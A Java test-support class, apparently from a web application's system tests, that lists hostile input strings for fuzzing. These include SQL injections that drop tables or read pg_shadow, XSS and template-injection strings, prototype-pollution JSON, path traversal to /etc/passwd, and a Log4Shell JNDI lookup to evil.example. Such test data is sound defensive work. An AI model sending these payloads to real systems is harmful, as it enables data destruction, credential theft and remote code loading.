package dev.tend.systemtests.hostile;

import java.util.List;
import java.util.Random;

/** Strings that have broken web applications before: injections, control characters, odd Unicode. */
public final class HostileStrings {

    public static final List<String> SQL = List.of(
            "' OR '1'='1", "'; DROP TABLE customer; --", "1; DELETE FROM visit WHERE 1=1", "\" OR \"\"=\"",
            "') UNION SELECT password FROM pg_shadow --", "%' AND 1=(SELECT COUNT(*) FROM pg_class) AND '%'='",
            "$$; COPY customer TO '/tmp/x'; $$", "\\'; SELECT pg_sleep(10); --");
    public static final List<String> JSON = List.of(
            "\",\"admin\":true,\"x\":\"", "{\"$where\": \"sleep(1000)\"}", "\\u0000", "}]}", "__proto__",
            "{\"constructor\":{\"prototype\":{\"polluted\":1}}}");
    public static final List<String> HTML = List.of(
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<!--", "{{7*7}}", "${7*7}",
            "#{7*7}", "{#include /etc/passwd}", "javascript:alert(1)");
    public static final List<String> LOG = List.of(
            "ok\n2026-01-01 00:00:00 ERROR [root] forged line", "ok\r\nX-Injected: 1", "${jndi:ldap://evil.example/a}",
            "%n%n%n%s%s%s", "\u001b[31mred\u001b[0m");
    public static final List<String> ODD = List.of(
            "\u0000", "\u202Egnp.exe", "\uFEFF", "🐕‍🦺🐈‍⬛", "Ω≈ç√∫", "\uD800", "../../../../etc/passwd", "null", "undefined",
            "NaN", "-1", "0x7fffffff", "99999999999999999999999");

    private HostileStrings() {
    }

    public static List<String> all() {
        return java.util.stream.Stream.of(SQL, JSON, HTML, LOG, ODD).flatMap(List::stream).toList();
    }

    public static String any(Random random) {
        List<String> all = all();
        return all.get(random.nextInt(all.size()));
    }

    /** Path segments that are not a UUID, each hostile in its own way; already percent-encoded where needed. */
    public static final List<String> BAD_IDS = List.of(
            "not-a-uuid", "1", "0", "-1", "null", "00000000-0000-0000-0000", "00000000-0000-0000-0000-00000000000g",
            "%27%20OR%20%271%27%3D%271", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "..%2F..%2Fetc%2Fpasswd", "%00",
            "%E2%80%AE", "%FF%FE", "%7B%7D", "x".repeat(2000), "123e4567-e89b-12d3-a456-4266141740000");
}
